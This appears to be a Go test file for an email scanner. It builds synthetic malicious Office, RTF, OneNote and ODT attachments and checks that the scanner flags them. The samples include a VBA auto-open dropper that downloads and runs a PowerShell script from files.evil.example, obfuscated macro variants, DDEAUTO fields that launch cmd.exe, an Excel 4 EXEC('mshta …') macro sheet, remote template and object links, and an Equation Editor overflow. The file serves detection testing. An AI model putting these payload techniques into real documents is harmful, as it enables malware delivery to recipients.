package scan_test

import (
	"bytes"
	"compress/zlib"
	"context"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"image"
	"slices"
	"strings"
	"testing"

	"tocsin/internal/email"
	"tocsin/internal/scan"
	"tocsin/internal/scan/scantest"
)

// withFile is a message that carries one file.
func withFile(name, text string, content []byte) *email.Message {
	var b strings.Builder
	fmt.Fprintf(&b, "From: a@letters.example\r\nTo: b@northwind.example\r\nSubject: File\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n%s\r\n--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=%q\r\nContent-Transfer-Encoding: base64\r\n\r\n", text, name)
	enc := base64.StdEncoding.EncodeToString(content)
	for len(enc) > 76 {
		b.WriteString(enc[:76] + "\r\n")
		enc = enc[76:]
	}
	b.WriteString(enc + "\r\n--b--\r\n")
	return email.Parse([]byte(b.String()), email.Limits{})
}

const (
	dropper = "Sub AutoOpen()\r\n  Dim a As String\r\n  a = \"pow\" & \"ersh\" & _\r\n    \"ell -w hidden iwr ht\" & \"tp://files.evil.example/a.ps1\"\r\n  CreateObject(\"WScript.Shell\").Run a\r\nEnd Sub\r\n"
	tidy    = "Sub MakeBold()\r\n  ' Shell would be wrong here\r\n  Selection.Font.Bold = True\r\n  MsgBox \"Line one\" & Chr(13) & Chr(10) & \"Line two\"\r\nEnd Sub\r\n"
	empty   = "Attribute VB_Base = \"1Normal.ThisDocument\"\r\nOption Explicit\r\n' nothing\r\n"
)

func xlm(state byte, autoOpen bool) [][]byte {
	formula := []byte{0x17, 4, 0, 'c', 'a', 'l', 'c', 0x42, 1, 110, 0}
	cell := append(make([]byte, 20), byte(len(formula)), 0)
	records := [][]byte{
		scantest.Record(0x0809, 0, 6, 5, 0, 0, 0, 0, 0),
		scantest.Record(0x0085, append([]byte{0, 0, 0, 0, state, 1, 6, 0}, "Macro1"...)...),
	}
	if autoOpen {
		records = append(records, scantest.Record(0x0018, append(append([]byte{0x20, 0, 0, 1}, make([]byte, 10)...), 0, 1)...))
	}
	return append(records, scantest.Record(0x00FC, make([]byte, 3000)...), scantest.Record(0x000A), scantest.Record(0x0809, 0, 6, 0x40, 0, 0, 0, 0, 0),
		scantest.Record(0x0006, append(cell, formula...)...), scantest.Record(0x000A))
}

func sheet12(tokens []byte) []byte {
	v := make([]byte, 8+8+2)
	v = binary.LittleEndian.AppendUint32(v, uint32(len(tokens)))
	v = append(v, tokens...)
	return append([]byte{9, byte(len(v))}, v...)
}

func wide(s string) []byte {
	return append(binary.LittleEndian.AppendUint32(nil, uint32(len(s))), scantest.UTF16(s)...)
}

func record12(kind byte, v ...byte) []byte {
	if kind >= 0x80 {
		return append([]byte{kind, kind >> 7, byte(len(v))}, v...)
	}
	return append([]byte{kind, byte(len(v))}, v...)
}

func xlsb() []byte {
	sheet := append([]byte{2, 0, 0, 0, 2, 0, 0, 0}, append(wide("rId2"), wide("Macro1")...)...)
	name := append(make([]byte, 9), wide("_xlnm.Auto_Open")...)
	return scantest.Zip(scantest.Entry{Name: "xl/workbook.bin", Data: string(append(record12(156, sheet...), record12(39, name...)...))},
		scantest.Rels("xl/workbook.bin", scantest.Relation{ID: "rId2", Kind: "xlMacrosheet", Target: "macrosheets/sheet1.bin"}),
		scantest.Entry{Name: "xl/macrosheets/sheet1.bin", Data: string(sheet12([]byte{0x17, 4, 0, 'c', 0, 'a', 0, 'l', 0, 'c', 0, 0x42, 1, 110, 0}))})
}

// equation is the content of an equation whose font name runs over.
func equation() []byte {
	head := make([]byte, 28)
	head[0] = 28
	return append(append(head, 3, 1, 1, 3, 10, 10, 8, 0x5A, 0x5A), strings.Repeat("A", 60)...)
}

func linked(kind, target string) []byte {
	return scantest.DOCX(scantest.Paragraph("Hello"), scantest.Rels("word/document.xml", scantest.Relation{Kind: kind, Target: target, External: true}))
}

func moniker(url string) []byte {
	u := scantest.UTF16(url + "\x00")
	b := append([]byte{1, 0, 0, 2, 1, 0, 0, 0}, "\xE0\xC9\xEA\x79\xF9\xBA\xCE\x11\x8C\x82\x00\xAA\x00\x4B\xA9\x0B"...)
	return append(binary.LittleEndian.AppendUint32(b, uint32(len(u))), u...)
}

func word97(text, template string) []byte {
	main := make([]byte, 0x200)
	main[0], main[1] = 0xEC, 0xA5
	var table []byte
	if template != "" {
		table = append(table, 0xFF, 0xFF, 2, 0, 0, 0, 0, 0)
		table = append(binary.LittleEndian.AppendUint16(table, uint16(len(template))), scantest.UTF16(template)...)
	}
	binary.LittleEndian.PutUint32(main[0x19E:], uint32(len(table)))
	clx := []byte{2, 16, 0, 0, 0, 0, 0, 0, 0}
	clx = binary.LittleEndian.AppendUint32(clx, uint32(len(text)))
	clx = append(clx, 0, 0)
	clx = binary.LittleEndian.AppendUint32(clx, uint32(len(main)*2)|0x40000000)
	clx = append(clx, 0, 0)
	binary.LittleEndian.PutUint32(main[0x1A2:], uint32(len(table)))
	binary.LittleEndian.PutUint32(main[0x1A6:], uint32(len(clx)))
	return scantest.OLE(scantest.Stream{Path: "WordDocument", Data: append(main, text...)}, scantest.Stream{Path: "0Table", Data: append(table, clx...)})
}

// activeMime wraps a macro project as Word does in web pages.
func activeMime(project []byte) []byte {
	var b bytes.Buffer
	b.WriteString("ActiveMime" + strings.Repeat("\x00", 40))
	w := zlib.NewWriter(&b)
	if _, err := w.Write(project); err != nil {
		panic(err)
	}
	if err := w.Close(); err != nil {
		panic(err)
	}
	return b.Bytes()
}

func odt(content string, further ...scantest.Entry) []byte {
	return scantest.Zip(append([]scantest.Entry{{Name: "mimetype", Data: "application/vnd.oasis.opendocument.text"}, {Name: "content.xml", Data: content}}, further...)...)
}

// The facts that a document must raise, all of them and no others; then files, links and text that must come out of it.
var officeCases = []struct {
	name, file string
	content    []byte
	facts      string
	files      string // names inside, in order
	links      string
	text       string
}{
	{"docm with a dropper", "a.docm", scantest.DOCM(nil, scantest.Module{Name: "ThisDocument", Source: dropper}), "macro-document macro-attack macro-starts-alone macro-hidden", "", "http://files.evil.example/a.ps1", "A document."},
	{"docm that formats", "a.docm", scantest.DOCM(nil, scantest.Module{Name: "Format", Source: tidy}), "macro-document", "", "", ""},
	{"docm without a line of code", "a.docm", scantest.DOCM(nil, scantest.Module{Name: "ThisDocument", Source: empty}), "", "", "", ""},
	{"docm in name only", "a.docm", scantest.DOCX(scantest.Paragraph("Plain")), "", "", "", "Plain"},
	{"docm that greets", "a.docm", scantest.DOCM(nil, scantest.Module{Name: "ThisDocument", Source: "Private Sub Document_Open()\r\nApplication.Caption = \"Hello\"\r\nEnd Sub\r\n"}), "macro-document macro-starts-alone", "", "", ""},
	{"button that starts a program", "a.docm", scantest.DOCM(nil, scantest.Module{Name: "M", Source: "Sub Button1_Click()\r\nShell \"notepad.exe\", 1\r\nEnd Sub\r\n"}), "macro-document macro-reaches-out", "", "", ""},
	{"letters as numbers", "a.docm", scantest.DOCM(nil, scantest.Module{Name: "M", Source: "Sub Auto_Open()\r\nx = Chr(&H57) & Chr(83) & Chr(99) & Chr(114) & Chr(105) & Chr(112) & Chr(116) & Chr(46) & Chr(83) & Chr(104) & Chr(101) & Chr(108) & Chr(108)\r\nSet o = CreateObject(x)\r\nEnd Sub\r\n"}), "macro-document macro-attack macro-starts-alone macro-hidden", "", "", ""},
	{"backwards", "a.docm", scantest.DOCM(nil, scantest.Module{Name: "M", Source: "Sub Document_Close()\r\nGetObject(StrReverse(\"stmgmniw\")).Create StrReverse(\"llehsrewop\")\r\nEnd Sub\r\n"}), "macro-document macro-attack macro-starts-alone macro-hidden", "", "", ""},
	{"in variables", "a.docm", scantest.DOCM(nil, scantest.Module{Name: "M", Source: "Sub Document_Open()\r\na = \"cmd\": b = \".e\": c = \"xe\"\r\nd = a & b\r\nd = d & c\r\nRun d\r\nEnd Sub\r\n"}), "macro-document macro-attack macro-starts-alone macro-hidden", "", "", ""},
	{"source taken out", "a.docm", scantest.DOCM([]string{"Document_Open", "Shell"}, scantest.Module{Name: "ThisDocument"}), "macro-source-removed", "", "", ""},
	{"old doc with a dropper", "a.doc", scantest.OLE(append(scantest.VBA("Macros/", nil, scantest.Module{Name: "ThisDocument", Source: dropper}), scantest.Stream{Path: "WordDocument", Data: make([]byte, 600)})...), "macro-document macro-attack macro-starts-alone macro-hidden", "", "http://files.evil.example/a.ps1", ""},
	{"ribbon that starts a macro", "a.docm", scantest.DOCX("", scantest.Entry{Name: "customUI/customUI.xml", Data: `<customUI onLoad="Begin"/>`}, scantest.Entry{Name: "word/vbaProject.bin", Data: string(scantest.OLE(scantest.VBA("", nil, scantest.Module{Name: "M", Source: "Sub Begin(r)\r\nShell x, 0\r\nEnd Sub\r\n"})...))}), "macro-document macro-attack macro-starts-alone", "", "", ""},

	{"template from the internet", "a.docx", scantest.DOCX("", scantest.Rels("word/settings.xml", scantest.Relation{Kind: "attachedTemplate", Target: "https://cdn.evil.example/t.dotm", External: true})), "remote-template", "", "https://cdn.evil.example/t.dotm", ""},
	{"template of the office", "a.docx", scantest.DOCX("", scantest.Rels("word/settings.xml", scantest.Relation{Kind: "attachedTemplate", Target: "https://northwind.sharepoint.com/t/letter.dotx", External: true})), "linked-file", "", "https://northwind.sharepoint.com/t/letter.dotx", ""},
	{"template on a disk", "a.docx", scantest.DOCX("", scantest.Rels("word/settings.xml", scantest.Relation{Kind: "attachedTemplate", Target: `file:///C:\Users\maren\Templates\letter.dotx`, External: true})), "", "", "", ""},
	{"template on the own share", "a.docx", scantest.DOCX("", scantest.Rels("word/settings.xml", scantest.Relation{Kind: "attachedTemplate", Target: `file:///\\files01\templates\letter.dotx`, External: true})), "linked-file", "", "", ""},
	{"template on a share outside", "a.docx", scantest.DOCX("", scantest.Rels("word/settings.xml", scantest.Relation{Kind: "attachedTemplate", Target: `file://203.0.113.7/t/a.dotm`, External: true})), "remote-share", "", "", ""},
	{"object from the internet", "a.docx", linked("oleObject", "https://x.evil.example/index.html!"), "remote-object", "", "https://x.evil.example/index.html", ""},
	{"object by mhtml", "a.docx", linked("oleObject", "mhtml:https://x.evil.example/a.html!x-usc:https://x.evil.example/a.html"), "program-address", "", "", ""},
	{"tool by address", "a.docx", linked("hyperlink", "ms-msdt:/id PCWDiagnostic"), "program-address", "", "", ""},
	{"link pasted from a page", "a.docx", linked("hyperlink", "javascript:void(0)"), "", "", "", ""},
	{"picture pasted from a help file", "a.docx", linked("image", `mk:@MSITStore:C:\help\a.chm::/1.gif`), "", "", "", ""},
	{"remote picture", "a.docx", linked("image", "https://pixel.letters.example/1.png"), "remote-picture", "", "https://pixel.letters.example/1.png", ""},
	{"ordinary letter", "a.docx", scantest.DOCX(`<w:p><w:hyperlink r:id="rId1"><w:r><w:t>our site</w:t></w:r></w:hyperlink></w:p>`, scantest.Rels("word/document.xml", scantest.Relation{Kind: "hyperlink", Target: "https://northwind.example/a?b=1&c=2", External: true}), scantest.Entry{Name: "word/media/image1.png", Data: string(scantest.PNG(image.NewGray(image.Rect(0, 0, 4, 4))))}), "", "image1.png", "https://northwind.example/a?b=1&c=2 our site", "our site"},
	{"field in runs", "a.docx", scantest.DOCX(scantest.Field(" DD", "EAU", `TO c:\\windows\\system32\\cmd.exe "/k `, `calc.exe" `)), "dde-program", "", "", ""},
	{"field in numbers", "a.docx", scantest.DOCX(scantest.Field("DDEAUTO QUOTE 99 109 100 46 101 120 101 ")), "dde-program", "", "", ""},
	{"field of a chart", "a.docx", scantest.DOCX(scantest.Field(`DDEAUTO Excel.Sheet.8 "C:\\data\\figures.xls" "Sheet1!R1C1"`)), "linked-file", "", "", ""},
	{"field with a link", "a.docx", scantest.DOCX(scantest.Field(` HYPERLINK "https://shop.example/x" `)), "", "", "https://shop.example/x !Error", ""},
	{"packed program", "a.docx", scantest.DOCX("", scantest.Entry{Name: "word/embeddings/oleObject1.bin", Data: string(scantest.OLE(scantest.Stream{Path: "\x01Ole10Native", Data: scantest.Native("bill.js", []byte("WScript.Echo(1)"))}))}), "embedded-program", "oleObject1.bin bill.js", "", ""},
	{"packed letter", "a.docx", scantest.DOCX("", scantest.Entry{Name: "word/embeddings/oleObject1.bin", Data: string(scantest.OLE(scantest.Stream{Path: "\x01Ole10Native", Data: scantest.Native("notes.txt", []byte("some notes"))}))}), "", "oleObject1.bin notes.txt", "", ""},
	{"sheet in a letter", "a.docx", scantest.DOCX("", scantest.Entry{Name: "word/embeddings/Sheet1.xlsx", Data: string(scantest.XLSX(""))}), "", "Sheet1.xlsx", "", ""},
	{"equation that runs over", "a.docx", scantest.DOCX("", scantest.Entry{Name: "word/embeddings/oleObject1.bin", Data: string(scantest.OLE(scantest.Stream{Path: "", CLSID: [16]byte{0x02, 0xCE, 0x02, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46}}, scantest.Stream{Path: "Equation Native", Data: equation()}))}), "equation-object equation-exploit", "oleObject1.bin", "", ""},

	{"workbook of the office", "a.xlsx", scantest.XLSX(`<sheets><sheet name="A" r:id="rId1" state="veryHidden"/></sheets>`, scantest.Rels("xl/externalLinks/externalLink1.xml", scantest.Relation{Kind: "externalLinkPath", Target: `file:///\\files01\finance\budget.xlsx`, External: true})), "linked-file", "", "", ""},
	{"workbook that calls a program", "a.xlsx", scantest.XLSX("", scantest.Entry{Name: "xl/externalLinks/externalLink1.xml", Data: `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`}), "dde-program", "", "", ""},
	{"macro sheet", "a.xlsm", scantest.XLSX(`<sheets><sheet name="M" r:id="rId9" state="veryHidden"/></sheets><definedNames><definedName name="_xlnm.Auto_Open">M!$A$1</definedName></definedNames>`, scantest.Rels("xl/workbook.xml", scantest.Relation{ID: "rId9", Kind: "xlMacrosheet", Target: "macrosheets/sheet1.xml"}), scantest.Entry{Name: "xl/macrosheets/sheet1.xml", Data: `<macrosheet><c><f>EXEC("mshta "&amp;"http://x.evil.example/a")</f></c></macrosheet>`}), "old-excel-macro hidden-macro-sheet macro-attack macro-starts-alone", "", "http://x.evil.example/a", ""},
	{"binary macro sheet", "a.xlsb", xlsb(), "old-excel-macro hidden-macro-sheet macro-attack macro-starts-alone", "", "", ""},
	{"old macro sheet", "a.xls", scantest.XLS(xlm(2, true)...), "old-excel-macro hidden-macro-sheet macro-attack macro-starts-alone", "", "", ""},
	{"old macro sheet in sight", "a.xls", scantest.XLS(xlm(0, false)...), "old-excel-macro macro-reaches-out", "", "", ""},
	{"old macro sheet, locked with the usual word", "a.xls", scantest.LockXLS("VelvetSweatshop", xlm(2, true)...), "document-default-password old-excel-macro hidden-macro-sheet macro-attack macro-starts-alone", "", "", ""},
	{"old macro sheet, locked", "a.xls", scantest.LockXLS("other", xlm(2, true)...), "document-locked", "", "", ""},
	{"old locked workbook", "a.xls", scantest.XLS(scantest.Record(0x0809, 0, 6, 5, 0), scantest.Record(0x002F, 0, 0)), "document-locked", "", "", ""},
	{"web query", "a.xlsx", scantest.XLSX("", scantest.Entry{Name: "xl/connections.xml", Data: `<connections><connection><webPr url="https://data.example/rates"/></connection></connections>`}), "linked-file", "", "https://data.example/rates", ""},
	{"formula with a link", "a.xlsx", scantest.XLSX("", scantest.Entry{Name: "xl/worksheets/sheet2.xml", Data: `<worksheet><c><f>HYPERLINK("https://pay.example/1","Pay")</f></c></worksheet>`}), "", "", "https://pay.example/1", ""},
	{"slide that starts a program", "a.pptx", scantest.Zip(scantest.Entry{Name: "ppt/presentation.xml", Data: "<p/>"}, scantest.Entry{Name: "ppt/slides/slide1.xml", Data: `<p:sld><a:t>Hover here</a:t><a:hlinkHover r:id="rId2" action="ppaction://program"/></p:sld>`}), "program-address", "", "", "Hover here"},

	{"old doc with a field", "a.doc", word97("See \x13 HYPERLINK \"https://old.example/a\" \x14this page\x15 please", ""), "", "", "https://old.example/a this page", "See this page please"},
	{"old doc with dde", "a.doc", word97("\x13DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"\x14x\x15", ""), "dde-program", "", "", ""},
	{"old doc with a template", "a.doc", word97("Hello", "http://t.evil.example/a.dot"), "remote-template", "", "http://t.evil.example/a.dot", "Hello"},

	{"web page of Word", "editdata.mso", activeMime(scantest.OLE(scantest.VBA("", nil, scantest.Module{Name: "M", Source: dropper})...)), "macro-document macro-attack macro-starts-alone macro-hidden", "macros.bin", "http://files.evil.example/a.ps1", ""},
	{"document as XML", "a.xml", []byte("<?xml version=\"1.0\"?><w:wordDocument><w:binData>" + base64.StdEncoding.EncodeToString(activeMime(scantest.OLE(scantest.VBA("", nil, scantest.Module{Name: "M", Source: tidy})...))) + "</w:binData></w:wordDocument>"), "macro-document", "macros.bin", "", ""},

	{"rtf letter", "a.rtf", []byte(`{\rtf1\ansi{\fonttbl{\f0 Arial;}}Dear \'c4nna,\par see {\field{\*\fldinst HYPERLINK "https://rtf.example/a"}{\fldrslt here}}}`), "", "", "https://rtf.example/a", "Dear Änna,"},
	{"rtf in a code page", "a.rtf", []byte(`{\rtf1\ansi\ansicpg1251 \'cf\'e0\'f0\'ee\'eb\'fc: 7}`), "", "", "", "Пароль: 7"},
	{"rtf equation", "a.rtf", scantest.RTF("Hi", scantest.OLE1("Equation.3", equation()), `\objupdate`, ""), "equation-object equation-exploit", "", "", "Hi"},
	{"rtf with noise", "a.doc", scantest.RTF("Hi", scantest.OLE1("Package", scantest.Package("a.exe", []byte("MZ123456789"))), "", "{\\*\\qq 41}\n"), "rtf-hidden-object embedded-program", "a.exe", "", ""},
	{"rtf with a picture of a sheet", "a.rtf", scantest.RTF("Hi", scantest.OLE1("Package", scantest.Package("a.txt", []byte("notes"))), "", ""), "", "a.txt", "", ""},
	{"rtf link object", "a.rtf", scantest.RTF("Hi", scantest.OLE1("OLE2Link", scantest.OLE(scantest.Stream{Path: "\x01Ole", Data: moniker("https://l.evil.example/a.hta")})), `\objautlink\objupdate`, ""), "rtf-opening-object remote-object", "object.bin", "https://l.evil.example/a.hta", ""},
	{"rtf template", "a.rtf", []byte(`{\rtf1{\*\template \u104?ttp\'3a//t.evil.example/x.dotm}Hi}`), "remote-template", "", "http://t.evil.example/x.dotm", ""},

	{"note with a script", "a.one", scantest.OneNote(scantest.Entry{Name: "open.hta", Data: "<script>x</script>"}), "embedded-program", "open.hta", "", ""},
	{"note with a letter", "a.one", scantest.OneNote(scantest.Entry{Name: "agenda.txt", Data: "On Friday at ten."}), "", "agenda.txt", "", ""},

	{"saved message", "a.msg", scantest.MSG(scantest.Saved{Subject: "Invoice", HTML: `<p>Pay <a href="https://pay.evil.example/x">here</a></p>`, Files: []scantest.Entry{{Name: "run.vbs", Data: "x=1"}}, Messages: []scantest.Saved{{Subject: "Inner", Body: "see https://inner.example/a"}}}), "embedded-program", "run.vbs", "https://pay.evil.example/x here,https://inner.example/a", "Invoice"},

	{"locked workbook", "a.xlsx", scantest.Encrypt(scantest.XLSX(""), "k3y-unknown", 10), "document-locked", "", "", ""},
	{"locked with the usual word", "a.xlsx", scantest.Encrypt(scantest.XLSX("", scantest.Entry{Name: "xl/externalLinks/externalLink1.xml", Data: `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`}), "VelvetSweatshop", 10), "document-default-password dde-program", "a.xlsx", "", ""},

	{"odt letter", "a.odt", odt(`<office:document-content><text:p>Dear reader, <text:a xlink:href="https://odt.example/a">look</text:a></text:p></office:document-content>`), "", "", "https://odt.example/a look", "Dear reader, look"},
	{"odt with a macro on load", "a.odt", odt(`<office:document-content><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></office:document-content>`, scantest.Entry{Name: "Basic/Standard/Module1.xml", Data: `<script:module>Sub Main&#10;Shell(&quot;cmd.exe&quot;)&#10;End Sub</script:module>`}), "macro-document macro-attack macro-starts-alone", "", "", ""},
	{"odt locked", "a.odt", odt("x", scantest.Entry{Name: "META-INF/manifest.xml", Data: `<m><manifest:encryption-data/></m>`}), "document-locked", "", "", ""},
}

func TestOffice(t *testing.T) {
	for _, c := range officeCases {
		t.Run(c.name, func(t *testing.T) {
			m := withFile(c.file, "See the file.", c.content)
			before := len(m.Attachments)
			r := scan.Open(context.Background(), m, scan.Limits{})
			var facts, names, links []string
			for _, f := range r.Facts {
				if !slices.Contains(facts, f.ID) {
					facts = append(facts, f.ID)
				}
				if scan.Kinds[f.ID] == "" {
					t.Errorf("no sentence for %s", f.ID)
				}
			}
			want := strings.Fields(c.facts)
			slices.Sort(facts)
			slices.Sort(want)
			if !slices.Equal(facts, want) {
				t.Errorf("facts %v, want %v; all %+v", facts, want, r.Facts)
			}
			for _, a := range m.Attachments[before:] {
				names = append(names, a.Name)
			}
			if got := strings.Join(names, " "); got != c.files {
				t.Errorf("files %q, want %q", got, c.files)
			}
			for _, l := range m.Links {
				if l.Where == email.InAttachment {
					links = append(links, strings.TrimSpace(l.URL+" "+l.Text))
				}
			}
			if got := strings.Join(links, ","); got != c.links {
				t.Errorf("links %q, want %q", got, c.links)
			}
			if !strings.Contains(r.Text, c.text) {
				t.Errorf("text %q lacks %q", r.Text, c.text)
			}
			for _, d := range m.Defects {
				if strings.HasPrefix(d.ID, "file-") && d.ID != "file-document-locked" && !(strings.HasPrefix(c.name, "old doc with a dropper")) {
					t.Errorf("defect %+v", d)
				}
			}
		})
	}
}
